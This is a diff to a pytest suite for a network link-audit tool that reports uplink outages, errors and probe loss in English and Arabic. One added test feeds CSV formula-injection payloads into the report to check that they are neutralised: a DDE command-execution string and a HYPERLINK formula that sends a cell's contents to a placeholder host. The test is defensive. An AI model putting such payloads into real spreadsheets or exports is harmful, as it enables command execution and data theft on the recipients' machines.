@@ -4,8 +4,10 @@ and Arabic carry the same numbers."""
 
 from __future__ import annotations
 
+import csv
 import dataclasses
 import datetime as dt
+import io
 from typing import Any
 
 import pytest
@@ -31,7 +33,7 @@ def link(**kw: Any) -> LinkFacts:
 
 def reach(**kw: Any) -> ReachFacts:
     base: dict[str, Any] = {"device": "jed-b07-rtr01", "icmp_loss_pct": 0.0, "snmp_loss_pct": 0.0, "rtt_ms": 2.0,
-                            "probes": 15, "last_sample_ms": NOW - MIN}
+                            "probes": 15, "last_sample_ms": NOW - MIN, "lossy_cycles": 15}
     base.update(kw)
     return ReachFacts(**base)
 
@@ -110,11 +112,11 @@ def test_rules(links: list[LinkFacts] | None, reaches: list[ReachFacts] | None, 
 
 @pytest.mark.parametrize(("facts", "text"), [
     (link(oper_status="down", oper_since_ms=NOW - 18 * MIN, flaps_24h=3),
-     "uplink Gi0/1 down since 09:42 (3 flaps in 24 h)"),
+     "uplink Gi0/1 down since 06:42 UTC (3 flaps in 24 h)"),
     (link(oper_status="down", oper_since_ms=NOW - 18 * MIN, flaps_24h=1),
-     "uplink Gi0/1 down since 09:42 (1 flap in 24 h)"),
+     "uplink Gi0/1 down since 06:42 UTC (1 flap in 24 h)"),
     (link(oper_status="down"), "uplink Gi0/1 down"),
-    (link(oper_status="down", oper_since_ms=NOW - 2 * 86_400_000), "uplink Gi0/1 down since 2024-04-29 10:00"),
+    (link(oper_status="down", oper_since_ms=NOW - 2 * 86_400_000), "uplink Gi0/1 down since 2024-04-29 07:00 UTC"),
     (link(error_pct=0.8), "Gi0/1: errors 0.8 % of packets over 15 min"),
     (link(speed_bps=10**8), "Gi0/1: running at 100 Mb/s, expected 1 Gb/s"),
     (link(neighbor="jed-b12-sw1", expected_neighbor="jed-hq-dist1"),
@@ -141,9 +143,9 @@ def test_arabic_sentences_carry_the_same_numbers() -> None:
     facts = [link(oper_status="down", oper_since_ms=NOW - 18 * MIN, flaps_24h=3),
              link(interface_id=2, interface="Gi0/2", speed_bps=10**8, error_pct=0.8)]
     texts = [reason_text(r, ar) for r in audit_branch(branch(facts, [reach(icmp_loss_pct=12.0)]), TH).reasons]
-    assert texts[0] == "الوصلة الصاعدة Gi0/1 متوقفة منذ 09:42 (3 تقلبات خلال 24 ساعة)"
+    assert texts[0] == "الوصلة الصاعدة Gi0/1 متوقفة منذ 06:42 UTC (3 تقلبات خلال 24 ساعة)"
     assert "الأخطاء 0.8 % من الحزم خلال 15 دقيقة" in texts[1]
-    assert "100 Mb/s" in texts[2] and "1 Gb/s" in texts[2]
+    assert "100 ميجابت/ث" in texts[2] and "1 جيجابت/ث" in texts[2]  # the catalogue's units, as the facts say
     assert texts[3] == "jed-b07-rtr01: فقدان 12 % خلال 15 دقيقة"
     assert all(not any("a" <= ch <= "z" for ch in t.replace("Gi0/", "").replace("jed-b07-rtr01", "")
                        .replace("Mb/s", "").replace("Gb/s", "")) for t in texts), texts
@@ -190,11 +192,11 @@ def test_pure_and_deterministic() -> None:
     assert dataclasses.asdict(facts) == before
 
 
-def test_local_time_is_riyadh() -> None:
-    assert local_time(NOW, NOW) == "10:00"
-    # 23:30 UTC is 02:30 the next day in Jeddah
+def test_times_are_utc_and_say_so() -> None:
+    assert local_time(NOW, NOW) == "07:00 UTC"
+    # another day than "now": the date too
     late = int(dt.datetime(2024, 4, 30, 23, 30, tzinfo=dt.UTC).timestamp() * 1000)
-    assert local_time(late, NOW) == "02:30"
+    assert local_time(late, NOW) == "2024-04-30 23:30 UTC"
 
 
 def test_a_branch_device_with_no_uplink_is_named() -> None:
@@ -215,5 +217,46 @@ def test_pages_isolate_names_and_units_inside_arabic_sentences() -> None:
     (r,) = audit_branch(branch([link(interface="Gi1/0/24", speed_bps=10**8)]), TH).reasons
     plain = reason_text(r, Translator("ar"))
     isolated = reason_text(r, Translator("ar"), isolate=True)
-    assert "\u2068Gi1/0/24\u2069" in isolated and "\u2068100 Mb/s\u2069" in isolated
+    assert "\u2068Gi1/0/24\u2069" in isolated and "\u2068100 ميجابت/ث\u2069" in isolated
     assert isolated.replace("\u2068", "").replace("\u2069", "") == plain
+
+
+def test_a_misspelt_threshold_stops_the_settings_from_loading() -> None:
+    import pydantic
+
+    from infra_mgr.config import Settings
+
+    with pytest.raises(pydantic.ValidationError, match="flaps"):
+        Settings(link_audit={"flaps": 5})
+    assert thresholds_from(Settings(link_audit={"loss_pct": 3})).loss_pct == 3
+
+
+def test_the_report_csv_never_starts_a_formula() -> None:
+    from infra_mgr.network.link_views import audit_csv
+
+    verdict = audit_branch(branch([link(oper_status="down", interface="=cmd|' /C calc'!A0")]), TH)
+    bad = verdict.model_copy(update={"site_name_en": '=HYPERLINK("http://x.example/?"&A1,"x")', "site_code": "@B07"})
+    rows = list(csv.reader(io.StringIO(audit_csv([bad], Translator("en")).lstrip("\ufeff"))))
+    assert rows[1][0] == "'@B07" and rows[1][1].startswith("'=HYPERLINK(")
+    assert all(not cell.lstrip(" ").startswith(("=", "+", "-", "@")) for cell in rows[1])
+
+
+def test_the_error_share_is_errors_over_packets_of_the_whole_window() -> None:
+    from infra_mgr.network.link_views import _error_share
+
+    # 14 busy minutes without errors (1,000 packets/s) and one quiet minute: 2 errors in 4 packets
+    errors_ps = (2 / 60) / 15
+    pkts_ps = (14 * 1000 + 4 / 60) / 15
+    means = {(7, "errors_ps"): (errors_ps, 15, 0), (7, "pkts_ps"): (pkts_ps, 15, 0),
+             (7, "error_pct"): ((50.0 + 0.0 * 14) / 15, 15, 0)}
+    share = _error_share(means, 7)
+    assert share is not None and share < 0.001  # not the 3.3 % a mean of per-minute shares gives
+    assert _error_share({(8, "error_pct"): (1.5, 3, 0)}, 8) == 1.5  # no packet series yet: the old mean
+    assert _error_share({}, 9) is None
+
+
+def test_one_bad_cycle_is_not_a_lossy_link() -> None:
+    """Two cycles with a lost probe make a finding; one (the poller's own busy moment) does not."""
+    one = audit_branch(branch(reaches=[reach(snmp_loss_pct=8.3, probes=4, lossy_cycles=1)]), TH)
+    two = audit_branch(branch(reaches=[reach(snmp_loss_pct=16.7, probes=4, lossy_cycles=2)]), TH)
+    assert [r.code for r in one.reasons] == [] and [r.code for r in two.reasons] == ["loss"]
